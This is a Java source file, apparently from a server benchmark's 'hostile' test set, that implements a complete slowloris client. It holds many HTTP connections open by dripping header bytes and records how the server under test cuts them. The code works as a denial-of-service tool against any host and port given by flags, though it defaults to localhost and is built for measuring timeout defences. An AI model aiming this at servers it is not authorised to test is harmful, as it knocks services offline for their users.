package dev.pounce.bench.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * {@code slowloris}: keeps {@code --connections} (default 1000) connections that each send
 * {@code GET / HTTP/1.1\r\nHost: x\r\n} and then one more header byte every {@code --drip-ms} (default 1000),
 * cycling through {@code X-a: b\r\n}, so the head never ends. A server with a header timeout answers 408 or
 * closes; each such cut is counted, with the connection's age, and the connection is replaced at once, so the
 * count stays at N. At most {@code --max-connecting} (default 200) connects are pending at a time, to stay within
 * the server's listen backlog.
 *
 * <p>Runs for {@code --duration} seconds, or with {@code --duration 0} (the default) until its standard input
 * ends, so a script can hold it open with a pipe while it measures. Prints {@code ready open=N} on standard output
 * the first time all N are open, and at the end {@code result open= opened= cuts= cut_408= cut_other= cut_eof=
 * cut_reset= connect_errors= age_at_cut_p50_ms= age_at_cut_max_ms= drip_bytes=}. One thread, one selector.
 */
final class Slowloris {

    private static final byte[] DRIP = "X-a: b\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final long TICK_NANOS = 50_000_000L;

    /** One dripping connection. */
    private static final class Conn {
        final SocketChannel channel;
        long openedAt;
        long nextDrip;
        int dripIndex;
        boolean connected;
        boolean dead;

        Conn(SocketChannel channel) {
            this.channel = channel;
        }
    }

    private final InetSocketAddress target;
    private final int connections;
    private final long dripNanos;
    private final int maxConnecting;
    private final byte[] head;
    private final Selector selector;
    private final List<Conn> conns = new ArrayList<>();
    private final Latencies ageAtCut = new Latencies();
    private final ByteBuffer readBuffer = ByteBuffer.allocate(4096);
    private int connecting;
    private long retryAfter;
    private int open;
    private long opened;
    private long cut408;
    private long cutOther;
    private long cutEof;
    private long cutReset;
    private long connectErrors;
    private long dripBytes;

    private Slowloris(InetSocketAddress target, int connections, long dripNanos, int maxConnecting)
            throws IOException {
        this.target = target;
        this.connections = connections;
        this.dripNanos = dripNanos;
        this.maxConnecting = maxConnecting;
        this.head = "GET / HTTP/1.1\r\nHost: x\r\n".getBytes(StandardCharsets.US_ASCII);
        this.selector = Selector.open();
    }

    static void run(Flags flags) throws IOException {
        String host = flags.string("--host", "127.0.0.1");
        int port = flags.integer("--port", 8000);
        int connections = flags.integer("--connections", 1000);
        int dripMs = flags.integer("--drip-ms", 1000);
        int duration = flags.integer("--duration", 0);
        int maxConnecting = flags.integer("--max-connecting", 200);
        flags.rejectUnread();
        var attack = new Slowloris(new InetSocketAddress(host, port), connections, dripMs * 1_000_000L,
                Math.max(1, maxConnecting));
        var stop = duration > 0 ? StopSignal.after(duration) : StopSignal.onStdinEnd(attack.selector);
        attack.loop(stop);
        attack.report();
    }

    private void loop(StopSignal stop) throws IOException {
        boolean ready = false;
        long nextProgress = System.nanoTime() + 5_000_000_000L;
        while (!stop.stopped()) {
            fill();
            selector.select(Math.max(1, TICK_NANOS / 1_000_000));
            long now = System.nanoTime();
            for (SelectionKey key : selector.selectedKeys()) {
                Conn c = (Conn) key.attachment();
                if (key.isValid() && key.isConnectable()) {
                    finishConnect(c, key, now);
                } else if (key.isValid() && key.isReadable()) {
                    readAnswer(c);
                }
            }
            selector.selectedKeys().clear();
            drip(now);
            if (!ready && open == connections) {
                ready = true;
                System.out.println("ready open=" + open);
                System.out.flush();
            }
            if (now >= nextProgress) {
                nextProgress = now + 5_000_000_000L;
                Report.progress("slowloris: open=%d connecting=%d cuts=%d (408: %d, eof: %d, reset: %d)", open,
                        connecting, cuts(), cut408, cutEof, cutReset);
            }
        }
        for (Conn c : conns) {
            closeQuietly(c);
        }
    }

    // Opens connections until N are open or connecting, with at most maxConnecting pending.
    // After a failed connect, opening waits 100 ms, so a refusing server does not turn this into a busy loop.
    private void fill() {
        conns.removeIf(c -> c.dead);
        while (conns.size() < connections && connecting < maxConnecting && System.nanoTime() >= retryAfter) {
            SocketChannel ch = null;
            try {
                ch = SocketChannel.open();
                ch.configureBlocking(false);
                ch.setOption(StandardSocketOptions.TCP_NODELAY, true);
                boolean done = ch.connect(target);
                var c = new Conn(ch);
                conns.add(c);
                connecting++;
                SelectionKey key = ch.register(selector, done ? 0 : SelectionKey.OP_CONNECT, c);
                if (done) {
                    finishConnect(c, key, System.nanoTime());
                }
            } catch (IOException e) {
                connectFailed();
                if (ch != null) {
                    try {
                        ch.close();
                    } catch (IOException ignored) {
                        // the channel never worked
                    }
                }
                return;
            }
        }
    }

    private void connectFailed() {
        connectErrors++;
        retryAfter = System.nanoTime() + 100_000_000L;
    }

    private void finishConnect(Conn c, SelectionKey key, long now) {
        connecting--;
        try {
            c.channel.finishConnect();
            c.channel.write(ByteBuffer.wrap(head));
            key.interestOps(SelectionKey.OP_READ);
            c.connected = true;
            c.openedAt = now;
            c.nextDrip = now + dripNanos;
            open++;
            opened++;
        } catch (IOException e) {
            connectFailed();
            closeQuietly(c);
        }
    }

    // Any byte or the end of the stream from the server means it has cut this connection.
    private void readAnswer(Conn c) {
        readBuffer.clear();
        try {
            int n = c.channel.read(readBuffer);
            if (n < 0) {
                cutEof++;
            } else if (n > 0) {
                String start = new String(readBuffer.array(), 0, Math.min(n, 12), StandardCharsets.US_ASCII);
                if (start.startsWith("HTTP/1.1 408") || start.startsWith("HTTP/1.0 408")) {
                    cut408++;
                } else {
                    cutOther++;
                }
            } else {
                return;
            }
        } catch (IOException e) {
            cutReset++;
        }
        cut(c);
    }

    private void drip(long now) {
        for (Conn c : conns) {
            if (!c.connected || c.dead || now < c.nextDrip) {
                continue;
            }
            try {
                c.channel.write(ByteBuffer.wrap(DRIP, c.dripIndex, 1));
                c.dripIndex = (c.dripIndex + 1) % DRIP.length;
                c.nextDrip += dripNanos;
                dripBytes++;
            } catch (IOException e) {
                cutReset++;
                cut(c);
            }
        }
    }

    private void cut(Conn c) {
        ageAtCut.add(System.nanoTime() - c.openedAt);
        closeQuietly(c);
    }

    private void closeQuietly(Conn c) {
        if (c.dead) {
            return;
        }
        c.dead = true;
        if (c.connected) {
            open--;
        }
        try {
            c.channel.close();
        } catch (IOException e) {
            // already broken
        }
    }

    private long cuts() {
        return cut408 + cutOther + cutEof + cutReset;
    }

    private void report() {
        Latencies ages = Latencies.merge(List.of(ageAtCut));
        new Report()
                .put("connections", connections)
                .put("opened", opened)
                .put("cuts", cuts())
                .put("cut_408", cut408)
                .put("cut_other", cutOther)
                .put("cut_eof", cutEof)
                .put("cut_reset", cutReset)
                .put("connect_errors", connectErrors)
                .millis("age_at_cut_min_ms", ages.quantile(0))
                .millis("age_at_cut_p50_ms", ages.quantile(0.5))
                .millis("age_at_cut_max_ms", ages.max())
                .put("drip_bytes", dripBytes)
                .print();
    }
}
